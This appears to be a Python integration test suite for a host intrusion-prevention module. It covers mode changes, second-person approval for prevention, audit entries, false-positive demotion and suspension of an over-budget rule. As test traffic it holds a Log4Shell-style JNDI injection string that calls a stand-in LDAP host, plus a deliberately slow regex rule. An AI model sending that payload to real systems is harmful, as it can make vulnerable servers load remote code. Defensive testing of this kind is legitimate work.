"""Intrusion prevention of a host under a real manager: copies only, in the way, blocking; a pack from shadow to prevention with the
approval of a second person; what rules cost."""
import contextlib
import json
import socket
import threading
import unittest

from hosts import HERE, THERE, Hosts
from stack import PASSWORD, Api, ApiError, wait_until

PORT = 8080
OWN = 'drop tcp any any -> any 8080 (msg:"own rule"; flow:to_server; content:"/exploit"; sid:1000001; rev:1;)'
COSTLY = 'alert udp any any -> any 9 (msg:"costly"; pcre:"/(a|aa)+[bc]$/"; sid:1000009; rev:1;)'
ATTACK = "/?x=${jndi:ldap://192.0.2.9/a}"
ATTACK_RULE = "1:9100001"
SECOND = "Another-Horse-8-Battery"


class IpsHosts(Hosts):
    def serve(self):
        """Answers each request on PORT with what a harmless server says."""
        with self.here:
            server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("0.0.0.0", PORT))
        server.listen(64)
        self.listeners.append(server)

        def answer(client):
            with client, contextlib.suppress(OSError):
                client.settimeout(10)
                if client.recv(65536):
                    client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nfine!")

        def accept():
            with contextlib.suppress(OSError):  # the listener is closed
                while True:
                    threading.Thread(target=answer, args=server.accept()[:1], daemon=True).start()
        threading.Thread(target=accept, daemon=True).start()

    def asks(self, path, patience=3.0):
        """Whether the server answered."""
        with self.there:
            client = socket.socket()
        with client:
            client.settimeout(patience)
            try:
                client.connect((HERE, PORT))
                client.sendall(f"GET {path} HTTP/1.1\r\nHost: www.example.com\r\n\r\n".encode())
                return client.recv(4096).endswith(b"fine!")
            except OSError:
                return False

    def wait_on(self):
        self.wait_applied()
        wait_until("intrusion prevention", lambda: (self.module("ips") or {}).get("state") == "on", 120)

    def rules(self):
        done = json.loads(self.cli("--json", "agents", "command", self.agent_id, "rules", "--module", "ips", "--wait"))
        return {rule["rule"]: rule for rule in done["output"]["rules"]}

    def tell(self, name, rule):
        return json.loads(self.cli("--json", "agents", "command", self.agent_id, name, "--module", "ips", "--wait",
                                   "--arguments", json.dumps({"rule": rule})))["output"]

    def second_person(self):
        self.api.post("/users", {"username": "second", "password": PASSWORD + "-once", "roles": ["full-access"]})
        second = Api(self.api.base.removesuffix("/api/v1"), str(self.manager_data / "ca.pem"))
        request = second.request

        def from_there(*words, **named):
            with self.there:
                return request(*words, **named)
        second.request = from_there
        for password in (PASSWORD + "-once", SECOND):
            second.token = second.post("/tokens", {"username": "second", "password": password})["token"]
            if password != SECOND:
                second.request("PUT", "/session/password", {"current": password, "new": SECOND})
        return second

    def ask_approval(self):
        return self.api.post("/approvals", {"action": "ips.prevent", "object": f"policy:{self.policy_id}", "reason": "no false alarms in a week"})["id"]

    def put_approved(self, approval, **sections):
        path = f"/policies/{self.policy_id}"
        document = {**{name: {"enabled": False} for name in ("integrity", "log-inspection")}, **sections}
        self.api.request("PATCH", path, {"document": document}, {"If-Match": self.api.get(path)["etag"]}, {"approval_id": approval})
        self.wait_applied()


class Ips(unittest.TestCase):
    def setUp(self):
        self.hosts = IpsHosts()
        self.addCleanup(self.hosts.__exit__, None)
        self.hosts.initialise()
        self.hosts.serve()

    def count(self, kind, rule):
        return len(self.hosts.api.events(f'type:"ips.rule.{kind}" AND rule:"{rule}"'))

    def refused(self, status, act):
        with self.assertRaises(ApiError) as caught:
            act()
        self.assertEqual(caught.exception.status, status, caught.exception.problem)

    def test_a_tap_looks_on_then_detects_taps_again_and_prevents(self):
        hosts = self.hosts
        section = {"rules": [OWN], "rule_packs": ["brute-force"], "fold_s": 0}
        hosts.set_policy({**{name: {"enabled": False} for name in ("integrity", "log-inspection")}, "ips": {**section, "mode": "tap"}})
        hosts.start()
        hosts.wait_on()
        self.assertTrue(hosts.asks("/exploit"))
        wait_until("the tap's event", lambda: self.count("matched", "1:1000001") == 1)
        self.assertNotIn("warder_queue", hosts.nft("list", "tables"))

        hosts.put(ips={**section, "mode": "detect"})
        wait_until("the queue", lambda: "warder_queue" in hosts.nft("list", "tables"))
        hosts.wait_on()
        self.assertTrue(hosts.asks("/exploit"))
        wait_until("the queue's event", lambda: self.count("matched", "1:1000001") == 2)

        hosts.put(ips={**section, "mode": "tap"})  # for which the process has no right any more: another one takes over
        wait_until("no queue", lambda: "warder_queue" not in hosts.nft("list", "tables"))
        hosts.wait_on()

        def is_seen():
            self.assertTrue(hosts.asks("/exploit"))
            return self.count("matched", "1:1000001") > 2
        wait_until("the second tap's event", is_seen, 120)

        second, approval = hosts.second_person(), hosts.ask_approval()
        second.post(f"/approvals/{approval}/decision", {"approve": True})
        hosts.put_approved(approval, ips={**section, "mode": "prevent"})
        wait_until("the block", lambda: not hosts.asks("/exploit"))
        wait_until("its event", lambda: self.count("blocked", "1:1000001") >= 1)
        self.assertTrue(hosts.asks("/harmless"))

    def test_a_pack_goes_from_shadow_to_prevention_with_a_second_persons_approval(self):
        hosts = self.hosts
        hosts.set_policy({**{name: {"enabled": False} for name in ("integrity", "log-inspection")}, "ips": {"mode": "detect", "fold_s": 0}})
        hosts.start()
        hosts.wait_on()
        self.assertTrue(hosts.asks(ATTACK))
        shadowed = wait_until("the hit in shadow", lambda: hosts.rules().get(ATTACK_RULE))
        self.assertEqual((shadowed["stage"], shadowed["hits"], shadowed["blocked"]), ("shadow", 1, 0))
        self.assertEqual(hosts.api.events('type:"ips.rule.matched"'), [], "a rule in shadow only counts")

        detects = {"mode": "detect", "fold_s": 0, "shadow_hours": 0}
        hosts.put(ips=detects)
        wait_until("the stage", lambda: hosts.rules()[ATTACK_RULE]["stage"] == "detect")
        self.assertTrue(hosts.asks(ATTACK))
        event = wait_until("the event", lambda: hosts.api.events('type:"ips.rule.matched"'))[0]
        self.assertEqual((event["action"], event["fields"]["source.ip"], event["fields"]["rule.would_block"]), ("logged", THERE, True))

        prevents = {**detects, "mode": "prevent", "pack_stages": ["virtual-patches prevent"]}
        self.refused(403, lambda: hosts.put(ips=prevents))
        approval = hosts.ask_approval()
        self.refused(403, lambda: hosts.put_approved(approval, ips=prevents))  # nobody has approved it yet
        self.refused(403, lambda: hosts.api.post(f"/approvals/{approval}/decision", {"approve": True}))  # never one's own
        self.assertTrue(hosts.asks(ATTACK))
        hosts.second_person().post(f"/approvals/{approval}/decision", {"approve": True})
        hosts.put_approved(approval, ips=prevents)
        wait_until("the block", lambda: not hosts.asks(ATTACK))
        wait_until("its event", lambda: self.count("blocked", ATTACK_RULE) >= 1)
        self.assertTrue(hosts.asks("/index.php?page=home"))
        more = {**prevents, "pack_stages": ["virtual-patches prevent", "web-attacks prevent"]}
        self.refused(403, lambda: hosts.put_approved(approval, ips=more))  # an approval is for one change
        actions = [entry["action"] for entry in hosts.api.pages("/audit")]
        for action in ("approval.request", "approval.decide", "approval.use", "policy.update"):
            self.assertIn(action, actions)

        rule = hosts.rules()[ATTACK_RULE]
        self.assertEqual(rule["stage"], "prevent")
        self.assertGreaterEqual(rule["blocked"], 1)
        self.assertEqual([hosts.tell("false-positive", ATTACK_RULE)["false_positives"] for _ in range(3)], [1, 2, 3])
        wait_until("shadow again after three false alarms", lambda: hosts.rules()[ATTACK_RULE]["stage"] == "shadow")
        wait_until("it passes again", lambda: hosts.asks(ATTACK))

    def test_a_rule_over_its_budget_is_reported_and_suspended_until_it_is_resumed(self):
        hosts = self.hosts
        hosts.set_policy({**{name: {"enabled": False} for name in ("integrity", "log-inspection")},
                          "ips": {"mode": "detect", "rules": [COSTLY], "rule_packs": ["brute-force"], "rule_budget_percent": 5}})
        hosts.start()
        hosts.wait_on()
        stop = threading.Event()
        with hosts.there:
            sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

        def load():
            while not stop.wait(0.01):
                for _ in range(20):
                    sender.sendto(b"a" * 1200, (HERE, 9))
        thread = threading.Thread(target=load, daemon=True)
        thread.start()
        try:
            wait_until("the report", lambda: hosts.api.events('type:"ips.rule.costly" AND rule:"1:1000009"'), 120)
            wait_until("the suspension", lambda: hosts.api.events('type:"ips.rule.suspended" AND rule:"1:1000009"'), 120)
        finally:
            stop.set()
            thread.join()
            sender.close()
        rule = hosts.rules()["1:1000009"]
        self.assertIn("%", rule["suspended"])
        self.assertGreater(rule["tried"], 0)
        self.assertGreater(rule["nanoseconds"], 0)
        hosts.tell("resume", "1:1000009")
        wait_until("in force again", lambda: "suspended" not in hosts.rules().get("1:1000009", {}))


if __name__ == "__main__":
    unittest.main()
